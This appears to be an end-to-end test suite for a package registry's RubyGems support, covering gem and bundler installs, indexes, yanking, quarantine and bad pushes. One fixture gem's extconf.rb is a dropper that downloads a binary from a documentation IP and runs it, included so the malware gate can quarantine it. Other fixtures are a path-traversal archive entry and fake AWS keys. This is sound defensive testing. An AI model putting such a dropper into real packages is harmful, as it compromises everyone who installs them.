/**
 * RubyGems with the real clients of Debian 12: `gem push` publishes gems built in the test,
 * `gem install` (gem 3.3.15, Marshal index) and `bundle install` (bundler 2.3.15, compact
 * index) resolve and install them with their dependencies; what Ruby loads from our Marshal
 * index equals what `gem generate_index` writes for the same gems; a yanked or quarantined gem
 * is invisible to both clients; private repositories need a token; bad pushes are refused with
 * messages gem prints.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { gunzipSync, gzipSync } from 'node:zlib';
import { systemActor } from '../../src/domain/audit.js';
import { awsKeyPair } from '../security/secrets/fake-secrets.js';
import { assertRubyInstalled, buildGem, type FixtureGem, repackGem, rewriteData, rewriteMetadata } from '../formats/rubygems/build-gem.js';
import { assertFailed, assertOk, runCommand, type RunResult } from './clients.js';
import { type TestServer, startTestServer } from '../helpers/server.js';

describe('RubyGems with gem and bundler', () => {
  let server: TestServer;
  let root = '';
  let token = '';
  let readToken = '';
  let source = '';
  const gems = new Map<string, Buffer>();

  const beta: FixtureGem = { name: 'stk-beta', version: '1.2.0', files: { 'lib/stk-beta.rb': 'module StkBeta; VERSION = "1.2.0"; end\n' } };
  const alpha: FixtureGem = {
    name: 'stk-alpha',
    version: '1.0.0',
    files: { 'lib/stk-alpha.rb': 'require "stk-beta"\nmodule StkAlpha; end\n' },
    dependencies: [
      { name: 'stk-beta', type: 'runtime', requirements: ['>= 1.0', '< 2'] },
      { name: 'rake', type: 'development', requirements: ['~> 13.0'] },
    ],
    requiredRubyVersion: '>= 2.7',
    metadata: { source_code_uri: 'https://example.invalid/stk-alpha' },
  };
  const alphaPre: FixtureGem = { ...alpha, version: '2.0.0.rc1' };
  const native: FixtureGem = { name: 'stk-beta', version: '1.2.0', platform: 'x86_64-linux', files: { 'lib/stk-beta.rb': 'module StkBeta; NATIVE = true; end\n' } };

  /** An environment of its own for gem and bundler: HOME, gem dirs and bundler settings under `dir`. */
  function rubyEnv(dir: string, extra: Record<string, string> = {}): Record<string, string> {
    return {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      HOME: dir,
      GEM_HOME: path.join(dir, 'gems'),
      GEM_PATH: path.join(dir, 'gems'),
      GEM_SPEC_CACHE: path.join(dir, 'spec-cache'),
      BUNDLE_USER_HOME: path.join(dir, 'bundle-home'),
      BUNDLE_APP_CONFIG: path.join(dir, 'bundle-config'),
      BUNDLE_PATH: path.join(dir, 'bundle'),
      BUNDLE_DISABLE_VERSION_CHECK: 'true',
      LC_ALL: 'C.UTF-8',
      ...extra,
    };
  }

  async function sandbox(label: string): Promise<string> {
    const dir = await mkdtemp(path.join(root, `${label}-`));
    await mkdir(path.join(dir, 'work'));
    return dir;
  }

  function run(command: string, args: string[], dir: string, extra: Record<string, string> = {}): Promise<RunResult> {
    return runCommand(command, args, rubyEnv(dir, extra), { cwd: path.join(dir, 'work'), timeoutMs: 120_000 });
  }

  async function gemPush(repoUrl: string, gem: Buffer, key: string | null, extra: Record<string, string> = {}): Promise<RunResult> {
    const dir = await sandbox('push');
    const file = path.join(dir, 'work', 'upload.gem');
    await writeFile(file, gem);
    return run('gem', ['push', '--host', repoUrl, file], dir, key === null ? extra : { GEM_HOST_API_KEY: key, ...extra });
  }

  function gemInstall(dir: string, sourceUrl: string, name: string, extra: string[] = []): Promise<RunResult> {
    return run('gem', ['install', name, '--clear-sources', '--source', sourceUrl, '--no-document', ...extra], dir);
  }

  async function bundleInstall(dir: string, sourceUrl: string, gemLines: string[], extra: Record<string, string> = {}): Promise<RunResult> {
    await writeFile(path.join(dir, 'work', 'Gemfile'), `source "${sourceUrl}"\n${gemLines.join('\n')}\n`);
    return run('bundle', ['install'], dir, extra);
  }

  async function http(method: string, url: string, options: { auth?: string; body?: Buffer | string; headers?: Record<string, string> } = {}) {
    const headers: Record<string, string> = { ...(options.headers ?? {}) };
    if (options.auth !== undefined) headers.authorization = options.auth;
    const response = await fetch(url, { method, headers, ...(options.body !== undefined ? { body: options.body } : {}) });
    const bytes = Buffer.from(await response.arrayBuffer());
    return { status: response.status, headers: response.headers, bytes, text: bytes.toString('utf8') };
  }

  const repoUrl = (repo: string) => `${server.url}/${repo}/rubygems`;

  before(async () => {
    assertRubyInstalled();
    for (const tool of ['bundle']) {
      const check = spawnSync(tool, ['--version'], { encoding: 'utf8' });
      if (check.error !== undefined || check.status !== 0) throw new Error(`${tool} is needed by these tests: install the Debian package bundler`);
    }
    root = await mkdtemp(path.join(tmpdir(), 'stockade-e2e-rubygems-'));
    server = await startTestServer();
    const owner = await server.createUser('rubyist');
    token = owner.token;
    await server.createRepo('rubyist', 'gems');
    await server.createRepo('rubyist', 'secret', 'private');
    readToken = (await server.domain.tokens.create(systemActor, { userId: owner.id, name: 'gem read', scopes: ['read'] })).secret;
    source = `${repoUrl('rubyist/gems')}/`;
    const build = await mkdtemp(path.join(root, 'build-'));
    for (const [label, gem] of Object.entries({ alpha, beta, alphaPre, native })) gems.set(label, buildGem(gem, build));
  });

  after(async () => {
    await server?.close();
    if (root) await rm(root, { recursive: true, force: true });
  });

  it('gem push publishes gems built with gem build', async () => {
    for (const label of ['beta', 'alpha', 'alphaPre', 'native']) {
      const result = assertOk(await gemPush(repoUrl('rubyist/gems'), gems.get(label) as Buffer, token));
      assert.match(result.stdout, /Successfully registered gem: stk-(alpha|beta) \(/);
    }
    // The same bytes again change nothing.
    assertOk(await gemPush(repoUrl('rubyist/gems'), gems.get('beta') as Buffer, token));
  });

  it('serves the compact index with MD5 ETags and byte ranges', async () => {
    const versions = await http('GET', `${source}versions`);
    assert.equal(versions.status, 200, versions.text);
    assert.match(versions.text, /^created_at: \d{4}-\d\d-\d\dT[\d:]+Z\n---\n/);
    assert.equal(versions.headers.get('etag'), `"${createHash('md5').update(versions.bytes).digest('hex')}"`);
    const info = await http('GET', `${source}info/stk-alpha`);
    assert.equal(info.status, 200);
    const infoMd5 = createHash('md5').update(info.bytes).digest('hex');
    assert.equal(info.headers.get('etag'), `"${infoMd5}"`);
    assert.match(versions.text, new RegExp(`^stk-alpha 1\\.0\\.0,2\\.0\\.0\\.rc1 ${infoMd5}$`, 'm'));
    assert.match(versions.text, /^stk-beta 1\.2\.0,1\.2\.0-x86_64-linux [0-9a-f]{32}$/m);
    const sha = createHash('sha256').update(gems.get('alpha') as Buffer).digest('hex');
    assert.match(info.text, new RegExp(`^1\\.0\\.0 stk-beta:(>= 1\\.0&< 2|< 2&>= 1\\.0)\\|checksum:${sha},ruby:>= 2\\.7$`, 'm'));
    assert.doesNotMatch(info.text, /rake/, 'development dependencies stay out of /info');
    const names = await http('GET', `${source}names`);
    assert.equal(names.text, '---\nstk-alpha\nstk-beta\n');

    const partial = await http('GET', `${source}versions`, { headers: { range: 'bytes=10-' } });
    assert.equal(partial.status, 206);
    assert.deepEqual(partial.bytes, versions.bytes.subarray(10));
    const cached = await http('GET', `${source}versions`, { headers: { 'if-none-match': versions.headers.get('etag') as string } });
    assert.equal(cached.status, 304);
    const beyond = await http('GET', `${source}versions`, { headers: { range: `bytes=${versions.bytes.length + 5}-` } });
    assert.equal(beyond.status, 200, 'a range past the end gets the whole file');
  });

  it('writes a Marshal index that Ruby loads as gem generate_index writes it', async () => {
    const dir = await sandbox('generate-index');
    const reference = path.join(dir, 'reference');
    await mkdir(path.join(reference, 'gems'), { recursive: true });
    const ours = path.join(dir, 'ours');
    await mkdir(path.join(ours, 'quick'), { recursive: true });
    const fullNames = ['stk-alpha-1.0.0', 'stk-alpha-2.0.0.rc1', 'stk-beta-1.2.0', 'stk-beta-1.2.0-x86_64-linux'];
    const labels = ['alpha', 'alphaPre', 'beta', 'native'];
    for (const [i, full] of fullNames.entries()) await writeFile(path.join(reference, 'gems', `${full}.gem`), gems.get(labels[i] as string) as Buffer);
    assertOk(await run('gem', ['generate_index', '-d', reference], dir));
    for (const file of ['specs.4.8.gz', 'latest_specs.4.8.gz', 'prerelease_specs.4.8.gz']) {
      const response = await http('GET', `${source}${file}`);
      assert.equal(response.status, 200, `${file}: ${response.text}`);
      await writeFile(path.join(ours, file), response.bytes);
    }
    for (const full of fullNames) {
      const response = await http('GET', `${source}quick/Marshal.4.8/${full}.gemspec.rz`);
      assert.equal(response.status, 200, `${full}: ${response.text}`);
      await writeFile(path.join(ours, 'quick', `${full}.gemspec.rz`), response.bytes);
    }
    const script = `
      require "rubygems"
      ref, ours, names = ARGV[0], ARGV[1], ARGV[2].split(",")
      sort = ->(list) { list.sort_by { |n, v, p| [n, v, p] } }
      %w[specs latest_specs prerelease_specs].each do |index|
        a = sort.(Marshal.load(Gem::Util.gunzip(File.binread("#{ours}/#{index}.4.8.gz"))))
        b = sort.(Marshal.load(Gem::Util.gunzip(File.binread("#{ref}/#{index}.4.8.gz"))))
        # generate_index keeps one latest gem per name; like the public service we keep one per
        # name and platform, so a platform gem's latest is listed too.
        same = index == "latest_specs" ? (b - a).empty? && a.map { |n, _, p| [n, p] }.uniq.size == a.size : a == b
        raise "#{index}: #{a.inspect} != #{b.inspect}" unless same
        raise "#{index}: not Gem::Version" unless a.all? { |_, v, _| v.is_a?(Gem::Version) }
      end
      fields = %w[name version platform original_platform summary required_ruby_version required_rubygems_version dependencies email authors description homepage licenses metadata specification_version rubygems_version]
      names.each do |full|
        a = Marshal.load(Gem::Util.inflate(File.binread("#{ours}/quick/Marshal.4.8/#{full}.gemspec.rz"))) rescue Marshal.load(Gem::Util.inflate(File.binread("#{ours}/quick/#{full}.gemspec.rz")))
        b = Marshal.load(Gem::Util.inflate(File.binread("#{ref}/quick/Marshal.4.8/#{full}.gemspec.rz")))
        raise "#{full}: not a spec" unless a.is_a?(Gem::Specification)
        fields.each { |f| raise "#{full} #{f}: #{a.send(f).inspect} != #{b.send(f).inspect}" unless a.send(f) == b.send(f) }
        raise "#{full} date" unless a.date.is_a?(Time) && a.date == b.date
        raise "#{full} full_name" unless a.full_name == full
      end
      puts "same"
    `;
    const result = assertOk(await run('ruby', ['-e', script, reference, ours, fullNames.join(',')], dir));
    assert.match(result.stdout, /same/);
  });

  it('gem install resolves a dependency through the Marshal index', async () => {
    const dir = await sandbox('gem-install');
    const result = assertOk(await gemInstall(dir, source, 'stk-alpha'));
    assert.match(result.stdout, /Successfully installed stk-beta-1\.2\.0/);
    assert.match(result.stdout, /Successfully installed stk-alpha-1\.0\.0/);
    const list = assertOk(await run('gem', ['list', 'stk-'], dir));
    assert.match(list.stdout, /stk-alpha \(1\.0\.0\)/);
    // A prerelease only with --pre.
    const pre = assertOk(await gemInstall(dir, source, 'stk-alpha', ['--pre']));
    assert.match(pre.stdout, /Successfully installed stk-alpha-2\.0\.0\.rc1/);
  });

  it('bundle install resolves through the compact index and checks the checksums', async () => {
    const dir = await sandbox('bundle');
    const result = assertOk(await bundleInstall(dir, source, ['gem "stk-alpha"']));
    assert.match(result.stdout, /Fetching gem metadata from http:\/\/127\.0\.0\.1:\d+\/rubyist\/gems\/rubygems\/\.?/);
    const lock = await readFile(path.join(dir, 'work', 'Gemfile.lock'), 'utf8');
    assert.match(lock, /stk-alpha \(1\.0\.0\)/);
    // On this machine bundler picks the x86_64-linux build of stk-beta.
    assert.match(lock, /stk-beta \(1\.2\.0(-x86_64-linux)?\)/);
    assert.match(lock, /stk-beta \(>= 1\.0, < 2\)|stk-beta \(< 2, >= 1\.0\)/);
  });

  it('a yanked gem disappears from both indexes but stays stored', async () => {
    const yanked: FixtureGem = { ...beta, version: '1.3.0' };
    const data = buildGem(yanked, await mkdtemp(path.join(root, 'build-yank-')));
    assertOk(await gemPush(repoUrl('rubyist/gems'), data, token));
    assert.match((await http('GET', `${source}info/stk-beta`)).text, /^1\.3\.0 /m);
    const dir = await sandbox('yank');
    const yank = assertOk(await run('gem', ['yank', 'stk-beta', '-v', '1.3.0', '--host', repoUrl('rubyist/gems')], dir, { GEM_HOST_API_KEY: token }));
    assert.match(yank.stdout, /Successfully deleted gem: stk-beta \(1\.3\.0\)/);
    assert.doesNotMatch((await http('GET', `${source}info/stk-beta`)).text, /1\.3\.0/);
    assert.doesNotMatch((await http('GET', `${source}versions`)).text, /1\.3\.0/);
    const specs = gunzipSync((await http('GET', `${source}specs.4.8.gz`)).bytes).toString('latin1');
    assert.doesNotMatch(specs, /1\.3\.0/);
    assert.equal((await http('GET', `${source}quick/Marshal.4.8/stk-beta-1.3.0.gemspec.rz`)).status, 404);
    assertFailed(await gemInstall(dir, source, 'stk-beta', ['-v', '1.3.0']));
    // Stored all the same: the exact file is still there.
    assert.equal((await http('GET', `${source}gems/stk-beta-1.3.0.gem`)).status, 200);
    // gem yank prints the server's answer and exits 0 whatever it was.
    const again = await run('gem', ['yank', 'stk-beta', '-v', '9.9.9', '--host', repoUrl('rubyist/gems')], dir, { GEM_HOST_API_KEY: token });
    assert.match(again.stdout + again.stderr, /stk-beta \(9\.9\.9\) not found/);
  });

  it('a gem the gate quarantines is invisible to gem and bundler', async () => {
    const policy = await http('PUT', `${server.url}/api/v1/repos/rubyist/gems/policy`, {
      auth: `Bearer ${server.adminToken}`,
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ version: 1, rules: [{ match: { analyzer: 'secrets' }, action: 'quarantine' }] }),
    });
    assert.equal(policy.status, 200, policy.text);
    const keys = awsKeyPair('rubygems-quarantine');
    const leaky: FixtureGem = { name: 'stk-leaky', version: '0.1.0', files: { 'lib/stk-leaky.rb': `KEY = "${keys.id}"\nSECRET = "${keys.secret}"\n` } };
    const data = buildGem(leaky, await mkdtemp(path.join(root, 'build-leaky-')));
    const push = assertOk(await gemPush(repoUrl('rubyist/gems'), data, token));
    assert.match(push.stdout, /held in quarantine/);
    assert.doesNotMatch((await http('GET', `${source}versions`)).text, /stk-leaky/);
    assert.equal((await http('GET', `${source}info/stk-leaky`)).status, 404);
    assert.doesNotMatch(gunzipSync((await http('GET', `${source}specs.4.8.gz`)).bytes).toString('latin1'), /stk-leaky/);
    const download = await http('GET', `${source}gems/stk-leaky-0.1.0.gem`);
    assert.equal(download.status, 403);
    assert.match(download.text, /quarantined pending review/);
    const dir = await sandbox('quarantine');
    assertFailed(await gemInstall(dir, source, 'stk-leaky'));
    assertFailed(await bundleInstall(dir, source, ['gem "stk-leaky"']));
  });

  it('a gem whose extension downloads and runs a binary is quarantined by the default policy, invisible to gem and bundler', async () => {
    const dropper: FixtureGem = {
      name: 'stk-fast-json',
      version: '0.3.0',
      extensions: ['ext/stk_fast_json/extconf.rb'],
      files: {
        'lib/stk-fast-json.rb': 'module StkFastJson; end\n',
        // Never built here: gem build only packs it.
        'ext/stk_fast_json/extconf.rb': [
          'require "net/http"',
          'bin = File.join(Dir.home, ".cache", "json-updater")',
          'File.binwrite(bin, Net::HTTP.get(URI("http://203.0.113.7/u.bin")))',
          'File.chmod(0755, bin)',
          'system(bin)',
          'File.write("Makefile", "all:\\ninstall:\\n")',
          '',
        ].join('\n'),
      },
    };
    const data = buildGem(dropper, await mkdtemp(path.join(root, 'build-dropper-')));
    // A repository of its own: other tests here change the policy of rubyist/gems.
    await server.createRepo('rubyist', 'wild');
    const wild = `${repoUrl('rubyist/wild')}/`;
    const push = assertOk(await gemPush(repoUrl('rubyist/wild'), data, token));
    assert.match(push.stdout, /held in quarantine/);
    assert.doesNotMatch((await http('GET', `${wild}versions`)).text, /stk-fast-json/);
    const repo = await server.domain.repos.get('rubyist', 'wild');
    const stored = await server.domain.packages.load({ repo: repo!, format: 'rubygems', name: 'stk-fast-json' }, { includeQuarantined: true });
    const rules = (stored?.versions[0]?.gate.findings as { rule: string; action: string }[]).filter((f) => f.action === 'quarantine').map((f) => f.rule);
    assert.ok(rules.some((rule) => rule.startsWith('malware/')), `quarantined by ${rules.join(', ')}`);
    const dir = await sandbox('dropper');
    assertFailed(await gemInstall(dir, wild, 'stk-fast-json'));
    assertFailed(await bundleInstall(dir, wild, ['gem "stk-fast-json"']));
  });

  it('a private repository needs a token: in the source URL for gem, in the config for bundler', async () => {
    const privateUrl = repoUrl('rubyist/secret');
    assertOk(await gemPush(privateUrl, gems.get('beta') as Buffer, token));
    const port = new URL(server.url).port;
    const withToken = `http://rubyist:${readToken}@127.0.0.1:${port}/rubyist/secret/rubygems/`;
    const anonymous = `http://127.0.0.1:${port}/rubyist/secret/rubygems/`;

    assert.equal((await http('GET', `${anonymous}versions`)).status, 401);
    const dir = await sandbox('private');
    assertFailed(await gemInstall(dir, anonymous, 'stk-beta'));
    const installed = assertOk(await gemInstall(dir, withToken, 'stk-beta'));
    assert.match(installed.stdout, /Successfully installed stk-beta-1\.2\.0/);

    const bundleDir = await sandbox('private-bundle');
    assertFailed(await bundleInstall(bundleDir, anonymous, ['gem "stk-beta"']));
    // bundler looks credentials up by host: BUNDLE_127__0__0__1=user:token.
    const bundled = assertOk(await bundleInstall(bundleDir, anonymous, ['gem "stk-beta"'], { BUNDLE_127__0__0__1: `rubyist:${readToken}` }));
    assert.match(bundled.stdout, /Installing stk-beta 1\.2\.0|Bundle complete/);
    // A read token cannot push.
    const refused = assertFailed(await gemPush(privateUrl, gems.get('alpha') as Buffer, readToken));
    assert.match(refused.stdout + refused.stderr, /forbidden|scope/i);
  });

  it('stockade push and the REST upload take a .gem too', async () => {
    const gem = buildGem({ ...beta, version: '1.4.0' }, await mkdtemp(path.join(root, 'build-upload-')));
    const response = await http('PUT', `${server.url}/api/v1/repos/rubyist/gems/upload?filename=stk-beta-1.4.0.gem`, {
      auth: `Bearer ${token}`,
      body: gem,
      headers: { 'content-type': 'application/octet-stream' },
    });
    assert.equal(response.status, 201, response.text);
    assert.equal((JSON.parse(response.text) as { format: string }).format, 'rubygems');
    assert.match((await http('GET', `${source}info/stk-beta`)).text, /^1\.4\.0 /m);
  });

  it('refuses bad pushes with messages gem prints', async () => {
    const push = repoUrl('rubyist/gems');
    const good = gems.get('alpha') as Buffer;
    const otherBytes = buildGem({ ...alpha, summary: 'different bytes' }, await mkdtemp(path.join(root, 'build-repush-')));
    const repush = assertFailed(await gemPush(push, otherBytes, token));
    assert.match(repush.stdout, /Repushing of gem versions is not allowed/);

    const cases: { name: string; data: Buffer; status: number; mentions: RegExp }[] = [
      {
        name: 'a checksum mismatch',
        data: repackGem(good, (members) => members.map((m) => (m.name === 'metadata.gz' ? { ...m, body: gzipSync(gunzipSync(m.body).toString('utf8').replace('stk-alpha', 'stk-alphb')) } : m)), true),
        status: 400,
        mentions: /SHA256 checksum mismatch for metadata\.gz/,
      },
      {
        name: 'metadata.gz that is not a spec',
        data: rewriteMetadata(good, () => '--- just a string\n'),
        status: 400,
        mentions: /not a !ruby\/object:Gem::Specification/,
      },
      { name: 'no data.tar.gz', data: repackGem(good, (members) => members.filter((m) => m.name !== 'data.tar.gz')), status: 400, mentions: /no data\.tar\.gz member/ },
      {
        name: 'path traversal in data.tar',
        data: rewriteData(good, (entries) => [...entries, { name: 'lib/../../evil.rb', body: Buffer.from('x') }]),
        status: 400,
        mentions: /unsafe package archive/,
      },
      {
        name: 'huge metadata',
        data: rewriteMetadata(good, (yaml) => yaml.replace(/^summary: .*$/m, `summary: "${'x'.repeat(4 * 1024 * 1024)}"`)),
        status: 400,
        mentions: /metadata\.gz/,
      },
      { name: 'an invalid gem name', data: rewriteMetadata(good, (yaml) => yaml.replace(/^name: stk-alpha$/m, 'name: "../stk alpha"')), status: 400, mentions: /not a valid gem name/ },
      { name: 'not a gem at all', data: Buffer.from('hello'), status: 400, mentions: /too short for a tar archive/ },
    ];
    for (const testCase of cases) {
      const response = await http('POST', `${push}/api/v1/gems`, { auth: token, body: testCase.data, headers: { 'content-type': 'application/octet-stream' } });
      assert.equal(response.status, testCase.status, `${testCase.name}: ${response.text}`);
      assert.match(response.text, testCase.mentions, testCase.name);
      assert.equal(response.headers.get('content-type'), 'text/plain; charset=utf-8');
    }

    const anonymous = await http('POST', `${push}/api/v1/gems`, { body: good, headers: { 'content-type': 'application/octet-stream' } });
    assert.equal(anonymous.status, 401);
    const readOnly = await http('POST', `${push}/api/v1/gems`, { auth: readToken, body: good, headers: { 'content-type': 'application/octet-stream' } });
    assert.equal(readOnly.status, 403, readOnly.text);
    const wrongKey = await http('POST', `${push}/api/v1/gems`, { auth: 'stk_not-a-real-key', body: good });
    assert.equal(wrongKey.status, 401);
    const yankUnknown = await http('DELETE', `${push}/api/v1/gems/yank`, {
      auth: token,
      body: 'gem_name=stk-alpha&version=7.7.7',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    });
    assert.equal(yankUnknown.status, 404, yankUnknown.text);
    // Nothing of the refused pushes reached the index.
    assert.doesNotMatch((await http('GET', `${source}names`)).text, /alphb|evil/);
  });
});
